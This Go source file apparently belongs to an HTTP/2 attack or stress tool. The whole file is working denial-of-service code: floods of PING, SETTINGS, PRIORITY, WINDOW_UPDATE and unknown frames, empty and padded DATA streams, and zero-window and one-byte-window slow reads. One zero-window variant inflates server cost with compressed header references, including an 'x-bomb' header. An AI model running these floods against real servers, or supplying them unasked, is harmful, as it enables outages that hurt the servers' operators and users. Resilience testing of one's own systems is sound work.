package main

import (
	"bytes"
	"strings"
)

// piecesPerWrite is how many small frames go in one write.
const piecesPerWrite = 256

// deaf repeats frames on a connection that is not read.
func deaf(next func(dst []byte, n uint32) []byte) func(a *attacker) error {
	return func(a *attacker) error {
		if err := a.open(nil); err != nil {
			return err
		}
		return a.flood(next)
	}
}

// hearing repeats frames on a connection that is read.
func hearing(next func(dst []byte, n uint32) []byte) func(a *attacker) error {
	return func(a *attacker) error {
		if err := a.open(nil); err != nil {
			return err
		}
		go a.frames(nil)
		return a.flood(next)
	}
}

func (a *attacker) flood(next func(dst []byte, n uint32) []byte) error {
	var b []byte
	n := uint32(0)
	return a.repeat(func() []byte {
		b = b[:0]
		for range piecesPerWrite {
			b = next(b, n)
			n++
		}
		return b
	})
}

func pings(dst []byte, _ uint32) []byte {
	return appendFrame(dst, framePing, 0, 0, []byte("millrace"))
}

func settingsFrames(dst []byte, n uint32) []byte {
	return appendSetting(dst, settingInitialWindow, 65535+n%2)
}

func priorities(dst []byte, n uint32) []byte {
	if n%2 == 0 {
		return appendFrame(dst, framePriority, 0, 1+2*(n%1000), []byte{0, 0, 0, 0, byte(n)})
	}
	return appendFrame(dst, framePriorityUp, 0, 0, append([]byte{0, 0, 0, 1}, "u=1"...))
}

func windowUpdates(dst []byte, _ uint32) []byte { return appendNumber(dst, frameWindowUpdate, 0, 1) }

func unknownFrames(dst []byte, _ uint32) []byte { return appendFrame(dst, frameUnknown, 0, 0, nil) }

// emptyData sends a body that is nothing but frames: of no length, or of padding.
func emptyData(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	if err := a.send(appendFrame(nil, frameHeaders, flagEndHeaders, 1, appendRequest(nil, indexPost, smallPath))); err != nil {
		return err
	}
	return a.flood(func(dst []byte, _ uint32) []byte {
		if a.index%2 == 0 {
			return appendFrame(dst, frameData, 0, 1, nil)
		}
		return appendFrame(dst, frameData, flagPadded, 1, []byte{0})
	})
}

// zeroWindow asks for large bodies and lets not a byte of them through, so that whatever a request costs stays. What it
// costs is made large in several ways: by the body alone, by a head that is within every limit and takes hundreds of
// times its bytes on the wire, and by one that is beyond.
func zeroWindow(a *attacker) error {
	if err := a.open(appendSetting(nil, settingInitialWindow, 0)); err != nil {
		return err
	}
	go a.frames(nil)
	first := appendRequest(nil, indexGet, heldPath)
	refs := 0
	switch a.index % 4 {
	case 1:
		first, refs = appendStored(first, "x-bomb", strings.Repeat("x", 500)), 80
	case 2:
		first, refs = appendStored(first, "cookie", strings.Repeat("c", 500)), 80
	case 3:
		first, refs = appendStored(first, "x", ""), crumbsPerBlock
	}
	b := appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, 1, first)
	block := append(appendRequest(nil, indexGet, heldPath), bytes.Repeat([]byte{indexNewest}, refs)...)
	for i := range uint32(batchStreams - 1) {
		b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, 3+2*i, block)
	}
	if err := a.send(b); err != nil {
		return err
	}
	// The connection stays, and moves a window now and then that stays at zero nevertheless.
	again := appendSetting(nil, settingInitialWindow, 0)
	return a.repeat(func() []byte { _ = pause(a.ctx, slowPause); return again })
}

// windowDrip takes large bodies a byte at a time.
func windowDrip(a *attacker) error {
	if err := a.open(appendSetting(nil, settingInitialWindow, 1)); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexGet, heldPath)
	var b []byte
	for i := range uint32(batchStreams) {
		b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, 1+2*i, block)
	}
	if err := a.send(b); err != nil {
		return err
	}
	return a.flood(func(dst []byte, n uint32) []byte {
		return appendNumber(dst, frameWindowUpdate, 1+2*(n%batchStreams), 1)
	})
}
